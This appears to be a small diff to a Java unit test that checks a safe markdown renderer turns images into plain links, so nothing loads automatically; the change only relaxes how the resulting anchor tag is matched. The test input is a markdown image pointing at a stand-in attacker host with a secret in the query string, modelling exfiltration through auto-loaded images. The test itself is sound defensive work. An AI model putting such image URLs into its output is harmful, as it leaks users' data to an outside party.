@@ -38,7 +38,7 @@ class SafeMarkdownTest {
     void images_become_links_so_nothing_loads_by_itself() {
         String html = markdown.render("![secret](https://evil.example/?q=secret)");
         assertFalse(html.contains("<img"), html);
-        assertTrue(html.contains("<a href=\"https://evil.example/?q=secret\""), html);
+        assertTrue(html.contains("<a ") && html.contains("href=\"https://evil.example/?q=secret\""), html);
     }
 
     @Test
